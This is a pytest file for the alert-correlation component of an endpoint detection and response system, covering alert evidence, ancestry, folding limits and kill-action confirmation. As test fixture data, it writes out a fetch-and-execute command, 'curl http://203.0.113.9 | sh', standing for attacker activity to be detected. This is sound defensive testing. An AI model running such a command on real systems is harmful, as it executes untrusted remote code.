"""A partition turns events and matches into alerts with evidence, whatever the order between topics."""

from collections.abc import Callable
from dataclasses import dataclass, field

import pytest

from microedr import ids
from microedr.v1.action_pb2 import ACTION_STATE_EXECUTED, ACTION_STATE_OBSERVED, ACTION_STATE_SIGNED, ActionUpdate
from microedr.v1.detection_pb2 import Alert
from microedr.v1.event_pb2 import LOSS_REASON_RING_FULL
from microedr_chassis.bus import topics
from microedr_chassis.bus.api import ConsumedRecord, Record
from microedr_chassis.errors import DeadLetterError
from microedr_chassis.settings import load_settings
from microedr_correlator.partition import Partition
from microedr_correlator.settings import CorrelatorSettings
from support.host_story import START_UNIX_NS, HostStory


@dataclass
class Clock:
    """Stands still until it is moved."""

    now_s: float = 1000.0

    def monotonic_s(self) -> float:
        """See ``clock.Clock``."""
        return self.now_s

    def unix_ns(self) -> int:
        """See ``clock.Clock``."""
        return START_UNIX_NS


@dataclass
class Bench:
    """A partition with a clock in the hand, and what it published."""

    settings: CorrelatorSettings = field(default_factory=lambda: load_settings(CorrelatorSettings, bus="memory:"))
    clock: Clock = field(default_factory=Clock)
    offsets: dict[str, int] = field(default_factory=dict)

    def __post_init__(self) -> None:
        self.partition = Partition(self.settings, self.clock)

    def take(self, *records: Record, at_s: float = 0.0) -> None:
        """Consume them, published ``at_s`` after the beginning."""
        for record in records:
            offset = self.offsets.get(record.topic, 0)
            self.offsets[record.topic] = offset + 1
            timestamp_ms = START_UNIX_NS // 10**6 + int(at_s * 1000)
            self.partition.consume(
                ConsumedRecord(record.topic, 0, offset, timestamp_ms, record.key, record.value, record.headers)
            )

    def tick(self, after_s: float = 0.0) -> None:
        """Let time pass."""
        self.clock.now_s += after_s
        self.partition.tick()

    def alerts(self) -> list[Alert]:
        """Every revision published."""
        return [Alert.FromString(r.value) for r in self.partition.outputs if r.topic == topics.ALERTS]

    def updates(self) -> list[ActionUpdate]:
        """Every step published."""
        return [ActionUpdate.FromString(r.value) for r in self.partition.outputs if r.topic == topics.ACTION_RESULTS]


@pytest.fixture
def bench() -> Bench:
    return Bench()


def test_an_alert_tells_who_did_it_where_they_come_from_and_where_they_connected_to(bench: Bench) -> None:
    story = HostStory()
    story.exec(10, 1, "/usr/sbin/sshd", "sshd: alice")
    story.exec(20, 10, "/bin/bash", "-bash", user="alice")
    story.connect(20, last_octet=9)
    story.fork(20, 30)
    story.wait(1)
    bad = story.exec(30, 20, "/bin/sh", "sh -c curl http://203.0.113.9 | sh", user="alice")
    frame = story.frame()

    bench.take(frame, story.match(bad))

    (alert,) = bench.alerts()
    assert [node.exe for node in alert.ancestry] == ["/bin/sh", "/bin/bash", "/usr/sbin/sshd"]
    assert alert.evidence_complete, alert.evidence_gaps
    assert [(e.role, e.event.process.exe) for e in alert.evidence] == [
        ("match", "/bin/sh"),
        ("ancestor", "/bin/bash"),
        ("ancestor", "/usr/sbin/sshd"),
    ]
    assert alert.evidence[1].event.event_id == ids.event_id("host-a", story.epoch_id, 0, 2)
    assert [(d.ip, d.port, d.count, d.process_uid) for d in alert.destinations] == [
        ("203.0.113.9", 443, 1, story.uid(20))
    ]
    assert alert.hostname == "host-a.test"
    assert alert.entities.pid == 30
    assert alert.entities.process_uid == story.uid(30)
    assert alert.entities.user == "alice"
    assert alert.entities.parent_exe == "/bin/bash"
    assert (
        alert.summary
        == "Title of rule-1: sh (pid 30, user alice), started by bash, ran: sh -c curl http://203.0.113.9 | sh"
    )
    assert alert.match_count == 1


def test_a_match_waits_for_its_event(bench: Bench) -> None:
    story = HostStory()
    story.exec(10, 1, "/bin/bash", "bash")
    first = story.frame()
    bad = story.exec(20, 10)
    second = story.frame()

    bench.take(first, story.match(bad))
    bench.tick(after_s=1.9)
    assert bench.alerts() == []
    assert bench.partition.held_offset() == 0
    bench.take(second)

    (alert,) = bench.alerts()
    assert alert.evidence_complete
    assert [node.pid for node in alert.ancestry] == [20, 10]
    assert bench.partition.held_offset() is None


def test_after_two_seconds_it_is_raised_without_and_says_so(bench: Bench) -> None:
    story = HostStory()
    bad = story.exec(20, 10)

    bench.take(story.match(bad))
    bench.tick(after_s=2.0)

    (alert,) = bench.alerts()
    assert not alert.evidence_complete
    assert "did not arrive within 2 s" in alert.evidence_gaps
    assert alert.entities.pid == 20


def test_a_host_whose_match_waits_does_not_hold_up_another(bench: Bench) -> None:
    slow, quick = HostStory("slow"), HostStory("quick")
    waiting = slow.exec(20, 10)
    bad = quick.exec(20, 10)

    bench.take(slow.match(waiting), quick.frame(), quick.match(bad))

    assert [alert.host_id for alert in bench.alerts()] == ["quick"]


def test_matches_of_one_process_fold_into_one_alert_with_at_most_one_revision_a_second(bench: Bench) -> None:
    story = HostStory()
    story.exec(20, 10)
    connections = [story.connect(20, last_octet=n) for n in range(5)]
    bench.take(story.frame())

    for connection in connections:
        bench.take(story.match(connection))
        bench.tick(after_s=0.1)
    assert [alert.match_count for alert in bench.alerts()] == [1]
    assert bench.partition.held_offset() == 1
    bench.tick(after_s=1.0)

    first, last = bench.alerts()
    assert first.alert_id == last.alert_id
    assert last.revision > first.revision
    assert (last.match_count, last.folded_count) == (5, 0)
    assert [e.event.net_conn.dst_ip[3] for e in last.evidence if e.role == "match"] == [0, 1, 2, 3, 4]
    assert [e.event.process.exe for e in last.evidence if e.role == "ancestor"] == ["/bin/sh"]
    assert bench.partition.held_offset() is None


def test_what_the_process_connects_to_after_the_alert_is_shown_once_more(bench: Bench) -> None:
    story = HostStory()
    bad = story.exec(20, 10)
    bench.take(story.frame(), story.match(bad))
    story.exec(21, 20, "/usr/bin/curl", "curl http://203.0.113.7")
    story.connect(21)
    bench.take(story.frame())

    bench.tick(after_s=4.9)
    assert len(bench.alerts()) == 1
    for _ in range(3):
        bench.tick(after_s=5.0)

    first, second = bench.alerts()
    assert (second.alert_id, second.match_count) == (first.alert_id, 1)
    assert second.revision > first.revision
    assert [d.ip for d in second.destinations] == ["203.0.113.7"]


def test_an_alert_with_nothing_more_to_show_is_not_published_again(bench: Bench) -> None:
    story = HostStory()
    bad = story.exec(20, 10)
    bench.take(story.frame(), story.match(bad))

    bench.tick(after_s=60)

    assert len(bench.alerts()) == 1


def test_the_same_match_again_changes_nothing(bench: Bench) -> None:
    story = HostStory()
    bad = story.exec(20, 10)
    bench.take(story.frame(), story.match(bad))

    bench.take(story.match(bad))
    bench.tick(after_s=5)

    assert [alert.match_count for alert in bench.alerts()] == [1]


def test_above_the_limit_matches_fold_into_one_alert_that_says_how_many(bench: Bench) -> None:
    story = HostStory()
    bad = [story.exec(pid, 1) for pid in range(100, 130)]
    bench.take(story.frame(), *(story.match(event, actions=[{"type": 1}]) for event in bad))
    bench.tick(after_s=1)

    newest = {alert.alert_id: alert for alert in bench.alerts()}
    overflow = [alert for alert in newest.values() if alert.folded_count]
    assert len(newest) == 21
    assert [(a.match_count, a.folded_count, a.summary) for a in overflow] == [
        (10, 10, "limit reached: 10 more matches of this rule on this host")
    ]
    assert not overflow[0].HasField("entities")
    assert not overflow[0].rule.actions
    assert all(alert.rule.actions for alert in newest.values() if not alert.folded_count)


def test_the_limit_is_per_rule_host_and_quarter_of_an_hour(bench: Bench) -> None:
    one, other = HostStory("one"), HostStory("other")
    bad = {story.host_id: [story.exec(pid, 1) for pid in range(100, 120)] for story in (one, other)}
    bench.take(one.frame(), other.frame())
    for story in (one, other):
        for event in bad[story.host_id]:
            bench.take(story.match(event), story.match(event, rule_id="rule-2"))
    one.wait(15 * 60)
    late = one.exec(200, 1)
    bench.take(one.frame(), one.match(late), at_s=15 * 60)

    assert len({alert.alert_id for alert in bench.alerts()}) == 81
    assert not any(alert.folded_count for alert in bench.alerts())


def test_group_by_tells_alerts_apart_by_values_instead_of_processes(bench: Bench) -> None:
    story = HostStory()
    events = [story.connect(pid, last_octet=octet) for pid, octet in ((20, 1), (21, 1), (22, 2))]
    bench.take(story.frame(), *(story.match(event, group_by=["payload.dst_ip"]) for event in events))
    bench.tick(after_s=1)

    newest = {alert.alert_id: alert.match_count for alert in bench.alerts()}
    assert sorted(newest.values()) == [1, 2]


def test_missing_and_lost_events_mark_the_alerts_they_touch(bench: Bench) -> None:
    story = HostStory()
    story.exec(10, 1)
    first = story.frame()
    story.skip(3)
    story.lose(12, LOSS_REASON_RING_FULL)
    bad = story.exec(20, 10)
    bench.take(first, story.frame(), story.match(bad))

    (alert,) = bench.alerts()
    assert not alert.evidence_complete
    assert alert.evidence_gaps == "12 events missing (ring_full), 3 events missing (sequences)"


def test_frames_that_come_twice_count_once(bench: Bench) -> None:
    story = HostStory()
    story.exec(10, 1)
    story.connect(10)
    frame = story.frame()
    bad = story.connect(10, last_octet=8)

    bench.take(frame, frame, story.frame(), story.match(bad))

    (alert,) = bench.alerts()
    assert {(d.ip, d.count) for d in alert.destinations} == {("203.0.113.7", 1), ("203.0.113.8", 1)}
    assert bench.partition.counts.duplicates_total == 2
    assert alert.evidence_complete


@pytest.mark.parametrize("order", ["executed first", "exit first", "order last", "target in the result"])
def test_a_kill_is_observed_when_the_exit_of_its_target_is_seen(bench: Bench, order: str) -> None:
    story = HostStory()
    story.exec(20, 1)
    bench.take(story.frame())
    signed = story.step(topics.ACTIONS, ACTION_STATE_SIGNED, 20)
    executed = story.step(topics.ACTION_RESULTS, ACTION_STATE_EXECUTED, 20, with_target=order == "target in the result")
    story.wait(1)
    story.exit(20)
    ended = story.frame()

    bench.take(
        *{
            "executed first": (signed, executed, ended),
            "exit first": (ended, signed, executed),
            "order last": (executed, ended, signed),
            "target in the result": (executed, ended),
        }[order]
    )
    bench.tick()

    (update,) = bench.updates()
    assert update.state == ACTION_STATE_OBSERVED
    assert update.action_id == "kill-20"
    assert update.alert_id == "alert-20"
    assert update.process.process_uid == story.uid(20)
    assert update.at_unix_ns == START_UNIX_NS + 10**9
    assert list(update.evidence_event_ids) == [ids.event_id("host-a", story.epoch_id, 0, 2)]


def test_another_host_cannot_prove_a_kill(bench: Bench) -> None:
    story, liar = HostStory("host-a"), HostStory("host-b")
    bench.take(story.step(topics.ACTION_RESULTS, ACTION_STATE_EXECUTED, 20))
    liar.exit(20).process_uid = story.uid(20)

    bench.take(liar.frame())
    bench.tick()

    assert bench.updates() == []


def test_the_exit_of_another_process_proves_nothing(bench: Bench) -> None:
    story = HostStory()
    story.exec(20, 1)
    story.exec(21, 1)
    bench.take(story.frame(), story.step(topics.ACTION_RESULTS, ACTION_STATE_EXECUTED, 20))
    story.exit(21)

    bench.take(story.frame())
    bench.tick()

    assert bench.updates() == []


@pytest.mark.parametrize(
    ("break_it", "reason"),
    [
        pytest.param(lambda r: Record(r.topic, r.key, b"\xff", r.headers), "undecodable", id="not a message"),
        pytest.param(lambda r: Record(r.topic, r.key, r.value, {}), "bad_headers", id="no headers"),
    ],
)
def test_what_cannot_be_read_is_a_dead_letter_and_changes_nothing(
    bench: Bench, break_it: Callable[[Record], Record], reason: str
) -> None:
    story = HostStory()
    bad = story.exec(20, 10)
    frame, match = story.frame(), story.match(bad)

    for record in (frame, match):
        with pytest.raises(DeadLetterError) as caught:
            bench.take(break_it(record))
        assert caught.value.reason == reason
    bench.take(frame, match)

    assert len(bench.alerts()) == 1
